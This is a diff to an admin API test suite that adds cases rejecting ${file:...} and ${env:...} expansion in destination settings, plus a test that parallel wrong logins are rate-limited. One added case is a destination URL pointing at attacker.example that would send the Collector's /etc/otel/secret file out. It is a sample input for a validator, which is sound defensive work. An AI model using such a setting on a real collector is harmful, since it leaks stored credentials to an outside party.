@@ -124,6 +124,10 @@ describe('admin API', () => {
       [{ id: 'x', name: 'X', type: 'kafka', brokers: ['k:9092'], url: 'https://a' }, 'destination.url', /is not a setting of a kafka destination/],
       [{ id: 'x', name: 'X', type: 'pigeon' }, 'destination.type', /must be one of splunk_hec/],
       [{ id: 'x', name: 'X', type: 'otlp_http', endpoint: 'https://a/v1/logs', headers: { 'bad header': 'v' } }, 'destination.headers.bad header', /not a valid header name/],
+      // The Collector expands ${file:...} and ${env:...}: a setting must not make it send its secrets elsewhere.
+      [{ id: 'x', name: 'X', type: 'splunk_hec', url: 'https://attacker.example/?a=${file:/etc/otel/secret}', token: 't' }, 'destination.url', /must not contain \$/],
+      [{ id: 'x', name: 'X', type: 'splunk_hec', url: 'https://splunk.example.com:8088', token: '${env:SPLUNK_HEC_TOKEN}' }, 'destination.token', /must not contain \$\{/],
+      [{ id: 'x', name: 'X', type: 'otlp_http', endpoint: 'https://a/v1/logs', headers: { Authorization: 'Bearer ${env:X}' } }, 'destination.headers.Authorization', /must not contain \$\{/],
     ];
     for (const [body, field, message] of cases) {
       const response = await client.change('POST', '/api/destinations', body);
@@ -186,5 +190,19 @@ describe('admin API', () => {
     const limited = await request(admin.url, 'POST', '/api/login', { token: admin.token });
     assert.equal(limited.status, 429);
     assert.ok(Number(limited.headers.get('retry-after')) > 0);
+  });
+});
+
+describe('admin login limit under parallel attempts', () => {
+  test('parallel wrong logins cannot all pass the limit check: at most five are tried, the rest get 429', async () => {
+    const admin = await startTestAdmin();
+    try {
+      const answers = await Promise.all(Array.from({ length: 20 }, () => request(admin.url, 'POST', '/api/login', { user: 'nobody', password: 'wrong' })));
+      const tried = answers.filter((answer) => answer.status === 401).length;
+      assert.ok(tried <= 5, `${tried} attempts were checked`);
+      assert.equal(answers.filter((answer) => answer.status === 429).length, 20 - tried);
+    } finally {
+      await admin.close();
+    }
   });
 });
